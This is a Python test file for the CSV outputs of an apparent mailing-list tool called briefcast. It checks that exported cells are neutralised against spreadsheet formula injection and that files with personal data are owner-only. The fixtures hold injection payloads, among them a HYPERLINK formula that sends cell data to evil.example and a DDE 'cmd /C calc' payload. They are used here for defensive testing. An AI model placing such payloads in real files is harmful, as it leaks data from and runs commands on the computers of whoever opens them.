"""Every CSV briefcast writes opens safely in a spreadsheet, and files with personal data are
owner-only: through the real commands (`lists import`, `lists export`, `report --detail`).

A name from an agency's file, a reflection typed on the acknowledgement page and a rejected
address all start with a formula; each file is read back with the csv module, as a spreadsheet
reads it, and no cell may start with a character that makes it a formula.
"""

from __future__ import annotations

import csv
import json
import stat
from pathlib import Path

import pytest
from click.testing import CliRunner
from ledger_rows import CAMPAIGN, add_acknowledgement, add_campaign, add_delivery, add_issue
from sqlalchemy import select

from briefcast.cli import app
from briefcast.safe_output import FORMULA_STARTS, restore_cell, safe_cell
from briefcast.store import open_database
from briefcast.store.schema import lists, recipients

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
CALC = "=cmd|' /C calc'!A0"
QUOTED_CALC = '"' + CALC.replace('"', '""') + '"'
QUOTED_HYPERLINK = '"' + HYPERLINK.replace('"', '""') + '"'
AGENCY_FILE = (
    "Email,Name,Organisation,Job title\n"
    f"ann@example.org,{QUOTED_CALC},+SUM(1;2),@role\n"
    "-bo@example.net,-Bo Minus,Example Police,Officer\n"
    f"{QUOTED_HYPERLINK},Someone,Example Trust,Nurse\n"
    "=1+1@example.org,Formula Address,Example Trust,Nurse\n"
    "@attacker@example.org,Someone Else,Example Trust,Nurse\n"
)


def cells(path: Path) -> list[list[str]]:
    with open(path, encoding="utf-8", newline="") as file:
        return list(csv.reader(file))


def assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), (cell, row)


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


@pytest.fixture
def run(database_url, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)  # the reports folder without a database file: ./reports

    def invoke(*args: str):
        env = {"BRIEFCAST_DATABASE_URL": database_url, "BRIEFCAST_SECRET_KEY": ""}
        result = CliRunner().invoke(app, list(args), env=env)
        assert result.exit_code == 0, result.output
        return result

    return invoke


@pytest.fixture
def imported(run, tmp_path):
    agency = tmp_path / "incoming" / "police.csv"
    agency.parent.mkdir()
    agency.write_text(AGENCY_FILE, encoding="utf-8")
    run("lists", "import", str(agency), "--list", "police")
    return agency


def test_rejected_rows_file_is_safe_owner_only_and_not_beside_the_input(run, imported, tmp_path):
    assert not (imported.parent / "police.rejected.csv").exists()
    rejects = tmp_path / "reports" / "police.rejected.csv"
    rows = cells(rejects)
    assert_no_formula(rows)
    assert [row[1] for row in rows[1:]] == ["'" + HYPERLINK, "'@attacker@example.org"]
    assert mode(rejects) == 0o600 and mode(rejects.parent) == 0o700


def test_rejects_go_where_asked(run, tmp_path):
    agency = tmp_path / "agency.csv"
    agency.write_text("Email\nnot an address\n", encoding="utf-8")
    run("lists", "import", str(agency), "--list", "police", "--rejects", "kept/why.csv")
    assert cells(tmp_path / "kept" / "why.csv")[1][1] == "not an address"


def test_lists_export_is_safe_owner_only_and_reads_back_unchanged(run, imported, tmp_path):
    out = tmp_path / "export.csv"
    run("lists", "export", "police", "--out", str(out))
    rows = cells(out)
    assert_no_formula(rows)
    assert sorted(rows[1:]) == [
        ["'-bo@example.net", "'-Bo Minus", "Example Police", "Officer"],
        ["'=1+1@example.org", "Formula Address", "Example Trust", "Nurse"],
        ["ann@example.org", "'" + CALC, "'+SUM(1;2)", "'@role"],
    ]
    assert mode(out) == 0o600
    access = tmp_path / "sar" / "ann.json"  # a subject access export: everything about Ann
    run("recipients", "export", "ann@example.org", "--out", str(access))
    assert mode(access) == 0o600 and mode(access.parent) == 0o700
    before = json.loads(run("lists", "show", "police", "--json").output)["members"]
    again = run("lists", "import", str(out), "--list", "police", "--sync", "--yes", "--json")
    assert json.loads(again.output)["counts"]["unchanged"] == 3
    assert json.loads(run("lists", "show", "police", "--json").output)["members"] == before
    names = {member["address"]: member["name"] for member in before}
    assert names["ann@example.org"] == CALC  # stored as given; only the files guard against it


def test_report_csv_with_detail_is_safe_owner_only_with_one_unsubscribed_column(
    run, imported, database_url, tmp_path
):
    engine = open_database(database_url)
    with engine.begin() as conn:
        police = conn.execute(select(lists.c.id)).scalar_one()
        ann = conn.execute(
            select(recipients.c.id).where(recipients.c.address == "ann@example.org")
        ).scalar_one()
        issue = add_issue(conn, add_campaign(conn))
        add_acknowledgement(conn, add_delivery(conn, issue, ann, police), HYPERLINK)
    engine.dispose()
    out = tmp_path / "report.csv"
    run("report", CAMPAIGN, "--format", "csv", "--detail", "--out", str(out))
    rows = cells(out)
    assert_no_formula(rows)
    header = rows[0]
    assert len(header) == len(set(header)), "a column name is used twice"
    person = dict(zip(header, next(r for r in rows if r[0] == "person"), strict=True))
    assert person["name"] == "'" + CALC and person["reflection"] == "'" + HYPERLINK
    assert person["person_unsubscribed"] == "False" and person["unsubscribed"] == ""
    assert mode(out) == 0o600


@pytest.mark.parametrize("value", ["=1", "+1", "-1", "@a", "\tx", "\rx", "'=x", "plain", "", "1-2"])
def test_restore_cell_undoes_safe_cell(value):
    safe = safe_cell(value)
    assert not str(safe).startswith(FORMULA_STARTS)
    assert restore_cell(safe) == value


def test_a_new_sqlite_database_and_its_wal_are_owner_only(tmp_path):
    url = f"sqlite:///{tmp_path / 'data' / 'briefcast.db'}"
    engine = open_database(url)
    with engine.begin() as conn:
        conn.execute(lists.insert().values(slug="x", name="X"))
        files = sorted((tmp_path / "data").iterdir())
        assert {f.name for f in files} >= {"briefcast.db", "briefcast.db-wal", "briefcast.db-shm"}
        assert {f.name: mode(f) for f in files} == {f.name: 0o600 for f in files}
    engine.dispose()
    assert mode(tmp_path / "data") == 0o700
